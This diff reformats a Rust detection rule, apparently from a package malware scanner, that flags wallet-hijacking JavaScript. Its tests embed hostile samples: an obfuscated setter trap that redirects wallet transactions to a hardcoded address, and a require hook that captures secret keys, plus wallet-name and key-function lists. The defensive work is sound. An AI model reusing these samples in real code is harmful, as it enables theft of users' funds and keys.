@@ -103,7 +103,10 @@ fn check(pkg: &Package, out: &mut Emitter) {
             && let Some(c) = f.js.as_ref().and_then(|js| {
                 js.calls.iter().find(|c| {
                     c.path == "Object.defineProperty"
-                        && matches!(c.arg_path(0), Some("window" | "globalThis" | "self" | "global"))
+                        && matches!(
+                            c.arg_path(0),
+                            Some("window" | "globalThis" | "self" | "global")
+                        )
                         && c.arg_lit(1).is_some_and(wallet_global)
                         && c.opt("set").is_some()
                 })
@@ -114,13 +117,21 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 .any(|m| !m.as_str().contains("0000000000"));
             let name = c.arg_lit(1).unwrap_or_default();
             out.hit_sev(
-                if fixed { Severity::Critical } else { Severity::Medium },
+                if fixed {
+                    Severity::Critical
+                } else {
+                    Severity::Medium
+                },
                 pkg,
                 f,
                 c.off,
                 format!(
                     "traps assignments to window.{name} with a setter{}",
-                    if fixed { " in a file holding a fixed wallet address" } else { "" }
+                    if fixed {
+                        " in a file holding a fixed wallet address"
+                    } else {
+                        ""
+                    }
                 ),
             );
             continue;
@@ -214,7 +225,16 @@ fn key_ctor_assign() -> &'static crate::rules::gate::Re {
 fn wallet_global(name: &str) -> bool {
     matches!(
         name,
-        "ethereum" | "solana" | "phantom" | "tronWeb" | "tronLink" | "BinanceChain" | "okxwallet" | "bitkeep" | "trustwallet" | "coinbaseWalletExtension"
+        "ethereum"
+            | "solana"
+            | "phantom"
+            | "tronWeb"
+            | "tronLink"
+            | "BinanceChain"
+            | "okxwallet"
+            | "bitkeep"
+            | "trustwallet"
+            | "coinbaseWalletExtension"
     )
 }
 
@@ -224,7 +244,18 @@ fn wallet_global(name: &str) -> bool {
 /// was found, the method, and whether the file also hooks module loading
 /// (`Module.prototype.require`, `Module._load`, `Module._extensions`).
 fn key_ctor_wrapped_by_name(text: &str) -> Option<(u32, String, bool)> {
-    if !crate::mentions!(text, ["fromsecretkey", "fromseed", "frommnemonic", "fromphrase", "fromprivatekey", "frommasterseed", "mnemonictoseed"]) {
+    if !crate::mentions!(
+        text,
+        [
+            "fromsecretkey",
+            "fromseed",
+            "frommnemonic",
+            "fromphrase",
+            "fromprivatekey",
+            "frommasterseed",
+            "mnemonictoseed"
+        ]
+    ) {
         return None;
     }
     let named = crate::regex!(
@@ -252,14 +283,22 @@ mod setter_tests {
     fn a_setter_trap_on_a_decoded_wallet_global_with_a_reversed_address_is_critical() {
         let src = "const r = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));\nconst K = { p: r('rgurerhz') };\nconst W = '7EE9614E2D7589600307F0E68872589000480925x0'.split('').reverse().join('');\nlet cur; function wrap(p) { const o = p.request.bind(p); p.request = (a) => o({ ...a, to: W }); return p }\nObject.defineProperty(window, K.p, { configurable: true, get() { return cur }, set(v) { cur = wrap(v) } });";
         let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical), "{hits:?}");
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Critical),
+            "{hits:?}"
+        );
     }
 
     #[test]
     fn a_setter_that_only_watches_for_the_wallet_is_medium() {
         let src = "let value = window.ethereum; Object.defineProperty(window, 'ethereum', { configurable: true, get() { return value }, set(v) { value = v; resolve(v) } })";
         let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Medium), "{hits:?}");
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Medium),
+            "{hits:?}"
+        );
     }
 
     #[test]
@@ -278,7 +317,11 @@ mod by_name_tests {
     fn a_require_hook_wrapping_key_constructors_by_name_is_critical() {
         let src = "const Module = require('module');\nfunction wrap(o, n) { const f = o[n]; o[n] = function (...a) { keep(a[0]); return f.apply(this, a) } }\nconst orig = Module.prototype.require;\nModule.prototype.require = function (id) { const e = orig.apply(this, arguments); if (e && e.Keypair) { wrap(e.Keypair, 'fromSecretKey'); wrap(e.Keypair, 'fromSeed') } return e };";
         let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical), "{hits:?}");
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Critical),
+            "{hits:?}"
+        );
     }
 
     #[test]
